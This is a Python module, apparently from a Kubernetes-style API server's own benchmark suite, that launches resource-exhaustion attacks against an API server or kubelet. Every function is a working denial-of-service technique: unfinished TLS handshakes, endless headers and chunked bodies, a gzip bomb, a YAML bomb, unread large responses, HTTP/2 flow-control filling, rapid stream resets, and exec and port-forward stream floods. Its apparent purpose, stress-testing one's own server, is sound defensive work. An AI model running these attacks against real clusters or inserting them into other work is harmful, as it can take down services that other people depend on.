"""`python -m bench.attacks NAME URL GRPC PKI METHOD`: one attack on an API server or a kubelet, which begins with a
line of its input, and is held until that ends.

A process of its own, so that it does not slow those whom it must not slow.  Prints a line once all its clients are at
it.  Each is bounded in number and size: what they ask for is memory, not bandwidth.
"""

import asyncio
import gzip
import io
import ssl
import struct
import sys
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import SplitResult, urlsplit

import aiohttp

from apiserver.storage.frames import (
    ACK,
    DATA,
    END_HEADERS,
    HEADERS,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
)  # fmt: skip

AT_ONCE = 50
SECONDS = 5.0
"""How long those go on that would never end."""
MAPS = "/api/v1/namespaces/default/configmaps"
POD = "/api/v1/namespaces/default/pods/p0"
UPGRADE = (
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    "Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\nSec-WebSocket-Protocol: v4.channel.k8s.io"
)
BOMB, BOMB_YAML = 100 << 20, b"[" + b",".join([b"{a: b}"] * 350_000) + b"]"
MESSAGE = 15 << 20


@dataclass
class Attacker:
    rest: SplitResult
    grpc: SplitResult
    pki: Path
    method: str = "/wherry.v1.Resources/Create"
    """Of the gRPC port, with one message."""
    writers: list[asyncio.StreamWriter] = field(default_factory=list)

    def tls(self, *, known: bool = True) -> ssl.SSLContext:
        context = ssl.create_default_context(cafile=str(self.pki / "ca.crt"))
        if known:
            context.load_cert_chain(self.pki / "tls.crt", self.pki / "tls.key")
        return context

    async def connect(
        self, where: SplitResult, tls: ssl.SSLContext | None
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:  # fmt: skip
        reader, writer = await asyncio.open_connection(where.hostname, where.port, ssl=tls)
        self.writers.append(writer)
        return reader, writer

    async def http2(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        tls = self.tls()
        tls.set_alpn_protocols(["h2"])
        reader, writer = await self.connect(self.grpc, tls)
        writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
        return reader, writer

    async def send(self, writer: asyncio.StreamWriter, *pieces: bytes) -> None:
        """As many as the server takes."""
        try:
            for piece in pieces:
                writer.write(piece)
                await writer.drain()
        except OSError:
            return

    async def post(self, body: bytes, *, known: bool, **headers: str) -> None:
        connector = aiohttp.TCPConnector(ssl=self.tls(known=known))
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        async with (
            aiohttp.ClientSession(self.rest.geturl(), connector=connector) as session,
            session.post(MAPS, data=io.BytesIO(body), headers=named) as answer,
        ):
            await answer.read()


async def handshakes(of: Attacker) -> None:
    """3,000 connections that never finish theirs."""
    await _many(3000, lambda: of.connect(of.rest, None))


async def silent(of: Attacker) -> None:
    """1,000 that have, without a certificate, and ask nothing."""
    await _many(1000, lambda: of.connect(of.rest, of.tls(known=False)))


async def heads(of: Attacker) -> None:
    """30 heads without an end."""

    async def one() -> None:
        _, writer = await of.connect(of.rest, of.tls(known=False))
        await of.send(writer, b"GET / HTTP/1.1\r\nHost: x\r\n", *[b"X: " + b"y" * 64_000 + b"\r\n"] * 200)

    await _many(30, one)


async def bodies(of: Attacker) -> None:
    """30 bodies without one."""

    async def one() -> None:
        _, writer = await of.connect(of.rest, of.tls())
        head = f"POST {MAPS} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
        await of.send(writer, head.encode(), *[b"10000\r\n" + b"y" * 65536 + b"\r\n"] * 200)

    await _many(30, one)


async def bombs(of: Attacker) -> None:
    """20 bodies of 100 kB that are 100 MB."""
    packed = gzip.compress(b"0" * BOMB)
    await _many(20, lambda: of.post(packed, known=True, Content_Encoding="gzip", Content_Type="application/json"))


async def yaml(of: Attacker) -> None:
    """4 bodies of a million values, of nobody."""
    await _many(4, lambda: of.post(BOMB_YAML, known=False, Content_Type="application/yaml"))


async def tables(of: Attacker) -> None:
    """50 clients that list 20 MB as a table and do not read."""
    await _unread(of, 50, "/api/v1/configmaps?includeObject=Object", "application/json;as=Table;v=v1;g=meta.k8s.io")


async def protobuf(of: Attacker) -> None:
    """The same in protobuf."""
    await _unread(of, 50, "/api/v1/configmaps", "application/vnd.kubernetes.protobuf")


async def messages(of: Attacker) -> None:
    """20 connections of gRPC with 40 messages of 15 MB each, all unfinished."""

    async def one() -> None:
        reader, writer = await of.http2()
        await _fill(reader, writer, range(1, 80, 2), of.method)

    await _many(20, one)


async def resets(of: Attacker) -> None:
    """10 connections of gRPC that begin calls and take them back."""

    async def one() -> None:
        _, writer = await of.http2()
        until, number = time.monotonic() + SECONDS, 1
        while time.monotonic() < until:
            calls = range(number, number + 100, 2)
            number += 100
            head, cancel = _head(of.method), struct.pack(">I", 8)
            frames = (frame(HEADERS, END_HEADERS, n, head) + frame(RST_STREAM, 0, n, cancel) for n in calls)
            await of.send(writer, b"".join(frames))
            await asyncio.sleep(0)

    await _many(10, one)


async def pages(of: Attacker) -> None:
    """300 clients of a kubelet that ask for its pods and do not read."""
    await _unread(of, 300, "/pods", "application/json")


async def strangers(of: Attacker) -> None:
    """1,000 requests to a kubelet, each with a token of nobody."""

    async def one(number: int) -> None:
        _, writer = await of.connect(of.rest, of.tls(known=False))
        writer.write(f"GET /pods HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer none-{number}\r\n\r\n".encode())

    numbers = iter(range(1000))
    await _many(1000, lambda: one(next(numbers)))


async def execs(of: Attacker) -> None:
    """600 commands in a pod that talk without end to clients who do not read."""
    await _unread(of, 600, f"{POD}/exec?command=yes&container=c&stdout=1", f"*/*\r\n{UPGRADE}")


async def forwards(of: Attacker) -> None:
    """30 port-forwards of 100 connections each."""
    ports = "&".join(["ports=80"] * 100)
    await _unread(of, 30, f"{POD}/portforward?{ports}", f"*/*\r\n{UPGRADE}")


ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
    each.__name__: each for each in (handshakes, silent, heads, bodies, bombs, yaml, tables, protobuf, messages, resets)
}
NODE_ATTACKS = {each.__name__: each for each in (handshakes, silent, heads, bodies, pages, strangers, messages, resets)}
"""On a kubelet's own ports."""
STREAM_ATTACKS = {each.__name__: each for each in (execs, forwards)}
"""On an API server, about pods of a simulated node."""
EVERY = {**ATTACKS, **NODE_ATTACKS, **STREAM_ATTACKS}


async def _many(count: int, one: Callable[[], Awaitable[object]]) -> None:
    """What the server refuses is no failure of an attack."""
    room = asyncio.Semaphore(AT_ONCE)

    async def bounded() -> None:
        async with room:
            try:
                await one()
            except (OSError, aiohttp.ClientError) as e:
                print(repr(e), file=sys.stderr)

    await asyncio.gather(*(bounded() for _ in range(count)))


async def _unread(of: Attacker, count: int, path: str, accept: str) -> None:
    async def one() -> None:
        _, writer = await of.connect(of.rest, of.tls())
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(f"GET {path} HTTP/1.1\r\nHost: x\r\nAccept: {accept}\r\n\r\n".encode())

    await _many(count, one)
    await asyncio.sleep(SECONDS)


async def _fill(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, streams: range, method: str) -> None:
    """Send of each stream's message whatever the server gives room for, and never the end of it."""
    room, first = {0: 65535} | dict.fromkeys(streams, 65535), 65535
    beginning = b"\0" + struct.pack(">I", MESSAGE)
    for number in streams:
        writer.write(frame(HEADERS, END_HEADERS, number, _head(method)) + frame(DATA, 0, number, beginning))
        room[0] -= 5
        room[number] -= 5
    try:
        async with asyncio.timeout(SECONDS):
            while True:
                for number in [n for n in room if n]:
                    size = min(room[0], room[number], 16384)
                    if size > 0:
                        writer.write(frame(DATA, 0, number, b"x" * size))
                        room[0] -= size
                        room[number] -= size
                await writer.drain()
                kind, flags, number, payload = await _next(reader)
                if kind == WINDOW_UPDATE and number in room:
                    room[number] += struct.unpack(">I", payload)[0]
                elif kind == SETTINGS and not flags:
                    writer.write(frame(SETTINGS, ACK, 0, b""))
                    for at in range(0, len(payload), 6):
                        name, value = struct.unpack_from(">HI", payload, at)
                        if name == 4:
                            room = {n: has + (value - first if n else 0) for n, has in room.items()}
                            first = value
                elif kind == RST_STREAM:
                    room.pop(number, None)
    except TimeoutError:
        return


async def _next(reader: asyncio.StreamReader) -> tuple[int, int, int, bytes]:
    head = await reader.readexactly(9)
    return head[3], head[4], int.from_bytes(head[5:]), await reader.readexactly(int.from_bytes(head[:3]))


def _head(method: str) -> bytes:
    fields = {
        ":method": "POST", ":scheme": "https", ":path": method, ":authority": "localhost",
        "content-type": "application/grpc", "te": "trailers",
    }  # fmt: skip
    words = ((name.encode(), value.encode()) for name, value in fields.items())
    return b"".join(b"\0" + bytes((len(n),)) + n + bytes((len(v),)) + v for n, v in words)


async def main(name: str, url: str, grpc: str, pki: str, method: str) -> None:
    attacker = Attacker(urlsplit(url), urlsplit(grpc), Path(pki), method)
    await asyncio.to_thread(sys.stdin.readline)
    await EVERY[name](attacker)
    print("done", flush=True)
    await asyncio.to_thread(sys.stdin.read)
    for writer in attacker.writers:
        writer.transport.abort()


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
